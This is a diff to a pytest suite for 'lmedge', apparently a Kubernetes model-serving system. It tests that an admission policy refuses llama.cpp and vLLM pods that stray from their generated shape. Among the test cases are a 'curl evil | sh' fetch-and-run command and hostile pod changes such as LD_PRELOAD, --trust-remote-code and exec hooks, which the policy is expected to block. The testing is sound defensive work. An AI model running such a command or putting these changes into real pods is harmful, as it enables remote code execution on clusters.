@@ -49,6 +49,17 @@ IMAGES = "lmedge-model-images"
 AGENT_NODE = "worker-2"
 OWN_NODE = f"lmedge node agent on {AGENT_NODE} may create and delete pods only on its own node"
 SERVICES = REPO / "examples/testbed/services.yaml"
+#: A llama.cpp LMService with its GGUF in a claim; `VLLM` is a vLLM one with baked weights.
+LLAMA = REPO / "examples/llama-cpp/lmservice.yaml"
+
+
+def vllm_doc() -> dict[str, Any]:
+    doc = yaml.safe_load(LLAMA.read_text())
+    doc["metadata"]["name"] = "vllm-1b"
+    doc["spec"]["image"] = "vllm/vllm-openai:v0.11.0"
+    doc["spec"]["engine"]["kind"] = "vllm"
+    doc["spec"]["engine"]["model"] = {"path": "/models/Llama-3.2-1B-Instruct"}
+    return dict(doc)
 
 
 def apply_file(api: Any, path: str) -> None:
@@ -123,7 +134,8 @@ def installed(lmedge_cluster: KubeCluster) -> Iterator[KubeCluster]:
             if exc.status != 409:
                 raise
         custom = client.CustomObjectsApi(api)
-        for doc in yaml.safe_load_all(SERVICES.read_text()):
+        docs = [*yaml.safe_load_all(SERVICES.read_text()), yaml.safe_load(LLAMA.read_text())]
+        for doc in [*docs, vllm_doc()]:
             if doc:
                 try:
                     custom.create_namespaced_custom_object(
@@ -151,8 +163,10 @@ def images(admin: KubeClient) -> dict[str, str]:
 
 
 @pytest.fixture(scope="module")
-def services() -> dict[str, ServiceInfo]:
-    _, found = load_resources(SERVICES)
+def services(tmp_path_factory: pytest.TempPathFactory) -> dict[str, ServiceInfo]:
+    vllm = tmp_path_factory.mktemp("vllm") / "vllm.yaml"
+    vllm.write_text(yaml.safe_dump(vllm_doc()))
+    found = [s for path in (SERVICES, LLAMA, vllm) for s in load_resources(path)[1]]
     return {s.name: s for s in found}
 
 
@@ -346,6 +360,9 @@ FORBIDDEN: list[tuple[str, Callable[[dict[str, Any]], None], str]] = [
      "may mount only its progress directory"),
     ("token-volume", _add_volume({"name": "t", "projected": {"sources": [
         {"serviceAccountToken": {"path": "token"}}]}}), "may mount only its progress directory"),
+    ("extra-arg", _set(f"{_C}.args", ["--lm", "lm2", "--modality", "text-to-text",
+                                      "--device", "cuda", "--weights", "/tmp/x"]),
+     "a model pod of LMService lm2 must run its pipeline engine with the args lmedge generates"),
     ("own-command", _set(f"{_C}.command", ["sh", "-c", "curl evil | sh"]),
      "runs its image's own entrypoint (args only, no command)"),
     ("init-container", _set("spec.initContainers", [
@@ -377,6 +394,96 @@ def test_agent_may_not_create(
 
     assert refused.value.status == 403
     assert "ValidatingAdmissionPolicy" in refused.value.message
+    assert message in refused.value.message, refused.value.message
+
+
+# -- token engines: llama.cpp and vLLM pods as lmedge builds them, and no other --
+
+
+def engine_pod(
+    admin: KubeClient, services: dict[str, ServiceInfo], lm: str, mode: str
+) -> dict[str, Any]:
+    uid = admin.custom.get_namespaced_custom_object(
+        "lmedge.io", "v1alpha1", WORKLOADS, "lmservices", lm
+    )["metadata"]["uid"]
+    placement = LMPlacement(lm=lm, mode=mode, cpu_cores=2, vgpus=1 if mode == "gpu" else 0)
+    return model_pod(services[lm], placement, AGENT_NODE, WORKLOADS, owner_uid=uid,
+                     service_account=MODEL_SA, gpu_vram_gib=24)  # fmt: skip
+
+
+ENGINE_PODS = [("llama-1b", "gpu"), ("llama-1b", "cpu"), ("vllm-1b", "gpu"), ("vllm-1b", "cpu")]
+
+
+@pytest.mark.parametrize(("lm", "mode"), ENGINE_PODS, ids=[f"{lm}-{m}" for lm, m in ENGINE_PODS])
+def test_agent_may_create_token_engine_pods(
+    agent: KubeClient, admin: KubeClient, services: dict[str, ServiceInfo], lm: str, mode: str
+) -> None:
+    manifest = engine_pod(admin, services, lm, mode)
+    agent.call("create pod", agent.core.create_namespaced_pod, WORKLOADS, manifest, dry_run="All")
+
+
+def _args(change: Callable[[list[str]], None]) -> Callable[[dict[str, Any]], None]:
+    def apply(pod: dict[str, Any]) -> None:
+        change(pod["spec"]["containers"][0]["args"])
+
+    return apply
+
+
+def _claim(name: str, read_only: bool) -> Callable[[dict[str, Any]], None]:
+    return _set("spec.volumes.0.persistentVolumeClaim",
+                {"claimName": name, "readOnly": read_only})  # fmt: skip
+
+
+LLAMA_ARGS = "a model pod of LMService llama-1b must run its llama.cpp engine with the args"
+VLLM_ARGS = "a model pod of LMService vllm-1b must run its vllm engine with the args"
+ENGINE_FORBIDDEN: list[tuple[str, str, Callable[[dict[str, Any]], None], str]] = [
+    ("llama-extra-arg", "llama-1b", _args(lambda a: a.extend(["--api-key", "x"])), LLAMA_ARGS),
+    ("llama-other-model", "llama-1b", _args(lambda a: a.__setitem__(1, "/models/other.gguf")),
+     LLAMA_ARGS),
+    ("llama-flag-as-number", "llama-1b", _args(lambda a: a.__setitem__(9, "--log-file")),
+     LLAMA_ARGS),
+    ("llama-pipeline-args", "llama-1b",
+     _set(f"{_C}.args", ["--lm", "llama-1b", "--modality", "text-to-text", "--device", "cuda"]),
+     LLAMA_ARGS),
+    ("vllm-remote-code", "vllm-1b", _args(lambda a: a.append("--trust-remote-code")), VLLM_ARGS),
+    ("vllm-utilization-word", "vllm-1b", _args(lambda a: a.__setitem__(13, "all")), VLLM_ARGS),
+    ("llama-env", "llama-1b", _set(f"{_C}.env", [{"name": "LD_PRELOAD", "value": "/models/x"}]),
+     "nor set any variable but HOME=/tmp"),
+    ("vllm-extra-env", "vllm-1b", lambda p: p["spec"]["containers"][0]["env"].append(
+        {"name": "VLLM_ALLOW_RUNTIME_LORA_UPDATING", "value": "1"}),
+     "nor set any variable but HOME=/tmp"),
+    ("llama-foreign-claim", "llama-1b", _claim("lmedge-store", True),
+     "a model pod of LMService llama-1b may mount only its model claim llama-1b-gguf"),
+    ("llama-writable-claim", "llama-1b", _claim("llama-1b-gguf", False),
+     "emptyDir volumes and its model claim read-only"),
+    ("vllm-any-claim", "vllm-1b", _set("spec.volumes", [{"name": "w", "persistentVolumeClaim": {
+        "claimName": "llama-1b-gguf", "readOnly": True}}]),
+     "a model pod of LMService vllm-1b may mount only no claim"),
+    ("exec-probe", "llama-1b", _set(f"{_C}.readinessProbe", {"exec": {"command": ["sh"]}}),
+     "no exec probes or lifecycle hooks"),
+    ("hook", "vllm-1b", _set(f"{_C}.lifecycle", {"postStart": {"exec": {"command": ["sh"]}}}),
+     "no exec probes or lifecycle hooks"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("lm", "change", "message"), [c[1:] for c in ENGINE_FORBIDDEN],
+                         ids=[c[0] for c in ENGINE_FORBIDDEN])  # fmt: skip
+def test_agent_may_not_create_token_engine_pods_beyond_their_shape(
+    agent: KubeClient,
+    admin: KubeClient,
+    services: dict[str, ServiceInfo],
+    lm: str,
+    change: Callable[[dict[str, Any]], None],
+    message: str,
+) -> None:
+    manifest = engine_pod(admin, services, lm, "gpu")
+    change(manifest)
+
+    with pytest.raises(ClusterRefused) as refused:
+        agent.call("create pod", agent.core.create_namespaced_pod, WORKLOADS, manifest,
+                   dry_run="All")  # fmt: skip
+
+    assert refused.value.status == 403
     assert message in refused.value.message, refused.value.message
 
 
